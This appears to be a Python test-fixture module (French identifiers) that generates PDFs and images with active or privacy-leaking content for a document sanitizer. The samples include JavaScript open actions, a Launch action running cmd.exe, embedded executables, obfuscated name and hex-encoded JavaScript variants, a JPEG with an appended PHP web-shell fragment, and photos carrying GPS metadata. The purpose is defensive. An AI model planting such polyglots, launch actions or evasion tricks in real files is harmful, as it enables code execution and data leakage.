"""PDF files and pictures that act, hide or tell too much: accepted once everything but what they show is gone."""

import io
from collections.abc import Iterator

import pikepdf
from PIL import Image, PngImagePlugin

from tests.documents.lecture.pdf_brut import TEXTE, document, flux, flux_comprime, mise_a_jour, ressource

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIONS = {
    "javascript": JS,
    "javascript-flux": b"<< /S /JavaScript /JS 20 0 R >>",
    "uri": b"<< /S /URI /URI (http://198.51.100.1/) >>",
    "launch": b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "gotor": b"<< /S /GoToR /F (//198.51.100.1/partage) /D [0 /Fit] >>",
    "gotoe": b"<< /S /GoToE /T << /R /C /N (piece) >> /D [0 /Fit] >>",
    "submit": b"<< /S /SubmitForm /F << /FS /URL /F (http://198.51.100.1/) >> >>",
    "import": b"<< /S /ImportData /F (donnees.fdf) >>",
    "reset": b"<< /S /ResetForm >>",
    "named": b"<< /S /Named /N /Print >>",
    "rendition": b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>",
    "sound": b"<< /S /Sound /Sound 21 0 R >>",
    "movie": b"<< /S /Movie /T (film) >>",
    "hide": b"<< /S /Hide /T (champ) >>",
    "setocg": b"<< /S /SetOCGState /State [/ON 22 0 R] >>",
    "richmedia": b"<< /S /RichMediaExecute /CMD << /C (play) >> >>",
    "suite": b"<< /S /Named /N /NextPage /Next [<< /S /JavaScript /JS (app.alert\\(2\\)) >>] >>",
}
ANNEXES = {
    20: flux(b"app.alert(3)"),
    21: flux(b"\x00" * 16, b"/R 8000"),
    22: b"<< /Type /OCG /Name (calque) >>",
}
PIXEL = b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray "
APPARENCE = flux(b"0 0 1 rg 0 0 100 20 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 100 20]")
ANNOTATIONS = {
    "lien": b"/Subtype /Link /A << /S /URI /URI (http://198.51.100.1/) >>",
    "piece-jointe": b"/Subtype /FileAttachment /FS 31 0 R",
    "film": b"/Subtype /Movie /Movie << /F (film.avi) >>",
    "son": b"/Subtype /Sound /Sound 21 0 R",
    "ecran": b"/Subtype /Screen /A << /S /Rendition /OP 0 >>",
    "richmedia": b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 31 0 R] >> >>",
    "3d": b"/Subtype /3D /3DD 32 0 R",
    "champ": b"/Subtype /Widget /FT /Tx /T (nom) /V (Durand) /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    "bouton": b"/Subtype /Widget /FT /Btn /T (b) /A << /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "tampon": b"/Subtype /Stamp /Contents (Lu) /AA << /E << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    "note": b"/Subtype /Text /Contents (secret) /Popup 33 0 R",
    "texte-libre": b"/Subtype /FreeText /Contents (x) /RC (<body>x</body>)",
    "projection": b"/Subtype /Projection /ExData << /Type /ExData /Subtype /Markup3D >>",
    "filigrane": b"/Subtype /Watermark /FixedPrint << /Type /FixedPrint >>",
}
FICHIER = {
    30: flux(b"MZ" + b"\x90" * 60, b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload"),
    31: b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 30 0 R >> >>",
    32: flux(b"U3D\x00", b"/Type /3D /Subtype /U3D /OnInstantiate 20 0 R"),
    33: b"<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] >>",
}


def pdf_actifs() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each PDF."""
    for nom, action in ACTIONS.items():
        yield f"ouverture-{nom}", document(catalogue=b"/OpenAction " + action, autres=ANNEXES)
        yield (
            f"catalogue-aa-{nom}",
            document(catalogue=b"/AA << /WC %s /DS %s >>" % (action, action), autres=ANNEXES),
        )
        yield f"page-aa-{nom}", document(page=b"/AA << /O %s >>" % action, autres=ANNEXES)
        yield (
            f"signet-{nom}",
            document(
                catalogue=b"/Outlines 23 0 R",
                autres={
                    **ANNEXES,
                    23: b"<< /First 24 0 R /Last 24 0 R >>",
                    24: b"<< /Title (t) /Parent 23 0 R /A %s >>" % action,
                },
            ),
        )
    for nom, annotation in ANNOTATIONS.items():
        autres = {**ANNEXES, **FICHIER, 25: APPARENCE}
        annot = b"<< /Type /Annot /Rect [72 600 172 620] /P 3 0 R /AP << /N 25 0 R >> /F 4 %s >>" % annotation
        yield (
            f"annotation-{nom}",
            document(
                page=b"/Annots [26 0 R]",
                catalogue=b"/AcroForm << /Fields [26 0 R] /CO [26 0 R] >>"
                if b"Widget" in annotation
                else b"",
                autres={**autres, 26: annot},
            ),
        )
    yield from _du_catalogue()
    yield from _des_ressources()
    yield from _des_restes()


def _du_catalogue() -> Iterator[tuple[str, bytes]]:
    paires = {
        "noms-javascript": b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>",
        "noms-fichiers": b"/Names << /EmbeddedFiles << /Names [(a.exe) 31 0 R] >> >>",
        "noms-rendus": b"/Names << /Renditions << /Names [(a) << /S /MR >>] >> >>",
        "fichiers-associes": b"/AF [31 0 R]",
        "adresse-de-base": b"/URI << /Base (http://198.51.100.1/) >>",
        "xfa-fixe": b"/AcroForm << /Fields [] /XFA 20 0 R >>",
        "formulaire-signe": b"/AcroForm << /Fields [] /SigFlags 3 >>",
        "metadonnees": b"/Metadata 27 0 R",
        "prive": b"/PieceInfo << /Prog << /Private (secret) >> >>",
        "exigences": b"/Requirements [<< /S /EnableJavaScripts /RH [<< /S /JS /Script (x) >>] >>]",
        "calques": b"/OCProperties << /OCGs [22 0 R] /D << /OFF [22 0 R] >> >>",
        "fils": b"/Threads [<< /I << /Title (x) >> >>]",
        "extensions": b"/Extensions << /ADBE << /BaseVersion /1.7 /ExtensionLevel 8 >> >>",
        "droits": b"/Perms << /UR3 << /Type /Sig >> >>",
        "capture": b"/SpiderInfo << /V 1.0 >>",
        "structure": b"/StructTreeRoot << /Type /StructTreeRoot >> /MarkInfo << /Marked true >>",
        "preferences": b"/ViewerPreferences << /HideToolbar true /HideMenubar true >> /PageMode /FullScreen",
    }
    autres = {
        **ANNEXES,
        **FICHIER,
        27: flux(b"<x:xmpmeta><script>alert(1)</script></x:xmpmeta>", b"/Type /Metadata"),
    }
    for nom, catalogue in paires.items():
        yield f"catalogue-{nom}", document(catalogue=catalogue, autres=autres)
    for nom, page in {
        "metadonnees": b"/Metadata 27 0 R",
        "vignette": b"/Thumb 28 0 R",
        "prive": b"/PieceInfo << /Prog << /Private (secret) >> >> /LastModified (D:2020)",
        "transition": b"/Trans << /S /Split >> /Dur 1",
        "fichiers-associes": b"/AF [31 0 R]",
        "fils": b"/B [27 0 R]",
        "presentation": b"/PresSteps << /Type /NavNode /NA << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        "separation": b"/SeparationInfo << /Pages [3 0 R] >>",
    }.items():
        image = flux(b"\x00", b"/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray")
        yield f"page-{nom}", document(page=page, autres={**autres, 28: image})


def _des_ressources() -> Iterator[tuple[str, bytes]]:
    def forme(cles: bytes, octets: bytes = b"0 0 9 9 re f") -> bytes:
        return flux(octets, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + cles)

    for nom, cles in {
        "reference": b"/Ref << /F (//198.51.100.1/x.pdf) /Page 0 >>",
        "opi": b"/OPI << /2.0 << /Type /OPI /F (//198.51.100.1/x.tif) >> >>",
        "prive": b"/PieceInfo << /X << /Private (secret) >> >> /Metadata 27 0 R",
        "calque": b"/OC << /Type /OCG /Name (cache) >>",
        "action": b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> "
        b"/A << /S /URI /URI (http://198.51.100.1) >>",
    }.items():
        yield f"forme-{nom}", ressource(b"XObject", b"/X 27 0 R", TEXTE + b" /X Do", {27: forme(cles)})
    yield (
        "postscript",
        ressource(
            b"XObject",
            b"/X 27 0 R",
            TEXTE + b" /X Do",
            {27: flux(b"(x) print", b"/Type /XObject /Subtype /PS")},
        ),
    )
    for nom, cles in {
        "autres-images": b"/Alternates [<< /Image 27 0 R /DefaultForPrinting true >>]",
        "externe": b"/F (//198.51.100.1/x) /FFilter /FlateDecode",
        "opi": b"/OPI << /1.3 << /F (//198.51.100.1/x.tif) >> >>",
    }.items():
        yield (
            f"image-{nom}",
            ressource(b"XObject", b"/X 27 0 R", TEXTE + b" /X Do", {27: flux(b"\x00", PIXEL + cles)}),
        )
    for filtre in (b"/JBIG2Decode", b"/JPXDecode", b"/Crypt", b"[/FlateDecode /DCTDecode]"):
        image = flux(b"\x00" * 40, PIXEL + b"/Filter " + filtre)
        nom = filtre.decode().strip("/[]").replace(" /", "-")
        yield f"codec-{nom}", ressource(b"XObject", b"/X 27 0 R", TEXTE + b" /X Do", {27: image})
    yield from _des_instructions()


def _des_instructions() -> Iterator[tuple[str, bytes]]:
    yield (
        "codec-en-ligne",
        document(contenu=flux(TEXTE + b" BI /W 1 /H 1 /BPC 8 /CS /G /F /JPXDecode ID \x00 EI")),
    )
    yield (
        "calque-en-ligne",
        ressource(b"Properties", b"/MC0 22 0 R", b"/OC /MC0 BDC " + TEXTE + b" EMC", {22: ANNEXES[22]}),
    )
    fonction4 = flux(b"{ dup mul }", b"/FunctionType 4 /Domain [0 1] /Range [0 1]")
    yield (
        "fonction-postscript",
        ressource(
            b"ColorSpace",
            b"/S [/Separation /Encre /DeviceGray 27 0 R]",
            b"/S cs .5 scn " + TEXTE,
            {27: fonction4},
        ),
    )
    yield (
        "police-type3",
        ressource(
            b"XObject",
            b"",
            TEXTE,
            {
                5: (
                    b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [.1 0 0 .1 0 0] /FirstChar 65 "
                    b"/LastChar 65 "
                    b"/Widths [9] /Encoding << /Differences [65 /a] >> /CharProcs << /a 27 0 R >> /Resources << >> >>"
                ),
                27: flux(b"9 0 0 0 9 9 d1 0 0 9 9 re f"),
            },
        ),
    )
    yield (
        "etat-transfert",
        ressource(
            b"ExtGState",
            b"/G << /TR 27 0 R /HT << /HalftoneType 1 >> /CA .5 >>",
            b"/G gs " + TEXTE,
            {27: fonction4},
        ),
    )
    yield from _jpeg_bavard()


def _jpeg_bavard() -> Iterator[tuple[str, bytes]]:
    jpeg = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Appareil secret"
    Image.new("RGB", (8, 8), "red").save(jpeg, "JPEG", exif=exif, comment=b"<script>alert(1)</script>")
    photo = (
        PIXEL.replace(b"Gray", b"RGB").replace(b"h 1 ", b"h 8 ").replace(b"t 1 ", b"t 8 ")
        + b"/Filter /DCTDecode"
    )
    yield (
        "jpeg-bavard",
        ressource(
            b"XObject",
            b"/X 27 0 R",
            TEXTE + b" q 99 0 0 99 99 99 cm /X Do Q",
            {27: flux(jpeg.getvalue() + b"PK\x03\x04<?php system($_GET[0]);", photo)},
        ),
    )


def _des_restes() -> Iterator[tuple[str, bytes]]:
    yield "objet-orphelin", document(autres={40: JS, 41: FICHIER[30]})
    yield "info", document(trailer=b"/Info << /Author (Jean Secret) /Title (x) /Producer (y) >>")
    yield (
        "etat-anterieur",
        mise_a_jour(document(contenu=flux(b"BT /F1 24 Tf 72 700 Td (Revenu 99999) Tj ET")), {4: flux(TEXTE)}),
    )
    yield (
        "commentaires",
        document(
            autres={
                4: flux(TEXTE),
                5: b"% <script>alert(1)</script>\n"
                + b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            }
        ),
    )
    yield "noms-codes", document(catalogue=b"/Open#41ction << /#53 /Java#53cript /J#53 (app.alert\\(1\\)) >>")
    yield "chaine-octale", document(catalogue=b"/OpenAction << /S /JavaScript /JS (\\141\\160\\160) >>")
    yield (
        "js-en-hexadecimal",
        document(catalogue=b"/OpenAction << /S /JavaScript /JS <6170702e616c65727428312929> >>"),
    )
    yield "flux-comprime-deux-fois", document(contenu=flux_comprime(TEXTE, fois=2))
    tampon = io.BytesIO()
    with pikepdf.open(io.BytesIO(document(catalogue=b"/OpenAction " + JS))) as pdf:
        pdf.save(tampon, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "js-dans-un-flux-d-objets", tampon.getvalue()
    tampon = io.BytesIO()
    with pikepdf.open(io.BytesIO(document(catalogue=b"/OpenAction " + JS))) as pdf:
        pdf.save(tampon, encryption=pikepdf.Encryption(owner="secret", user="", R=6))
    yield "js-sous-droits-restreints", tampon.getvalue()
    tampon = io.BytesIO()
    with pikepdf.open(io.BytesIO(document(catalogue=b"/OpenAction " + JS))) as pdf:
        pdf.save(tampon, linearize=True)
    yield "js-lineaire", tampon.getvalue()


def images_bavardes() -> Iterator[tuple[str, bytes]]:
    """Pictures that tell where, when and by whom they were taken, or carry something else along."""
    photo = Image.linear_gradient("L").convert("RGB").resize((64, 48))
    exif = Image.Exif()
    exif[0x0132], exif[0x010F], exif[0x9286] = "2026:01:01 00:00:00", "Appareil", "commentaire"
    exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 30.0), 3: "E", 4: (2.0, 17.0, 40.0)})

    def jpeg(**options: object) -> bytes:
        tampon = io.BytesIO()
        photo.save(tampon, "JPEG", **options)
        return tampon.getvalue()

    def segment(marque: int, octets: bytes) -> bytes:
        brut = jpeg()
        return brut[:2] + bytes([0xFF, marque]) + (len(octets) + 2).to_bytes(2, "big") + octets + brut[2:]

    yield "jpeg-gps", jpeg(exif=exif)
    yield "jpeg-xmp", segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>GPS</x:xmpmeta>")
    yield "jpeg-iptc", segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x00secret")
    yield "jpeg-commentaire", jpeg(comment=b"pris chez Jean Secret")
    yield (
        "jpeg-video-a-la-suite",
        jpeg() + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(range(256)) * 200,
    )
    yield "jpeg-suite-quelconque", jpeg() + b"secret" * 100
    infos = PngImagePlugin.PngInfo()
    infos.add_text("Author", "Jean Secret")
    infos.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS</x:xmpmeta>")
    tampon = io.BytesIO()
    photo.save(tampon, "PNG", pnginfo=infos, exif=exif, dpi=(300, 300))
    yield "png-textes-et-gps", tampon.getvalue()
    yield "png-suite-quelconque", tampon.getvalue() + b"secret" * 100
    tampon = io.BytesIO()
    photo.save(tampon, "PNG", save_all=True, append_images=[photo.transpose(Image.Transpose.ROTATE_180)] * 3)
    yield "png-anime", tampon.getvalue()
    import pillow_heif  # the encoder: a tool of the tests only

    tampon = io.BytesIO()
    pillow_heif.from_pillow(photo).save(tampon, exif=exif.tobytes(), xmp=b"<x:xmpmeta>GPS</x:xmpmeta>")
    yield "heic-gps", tampon.getvalue()
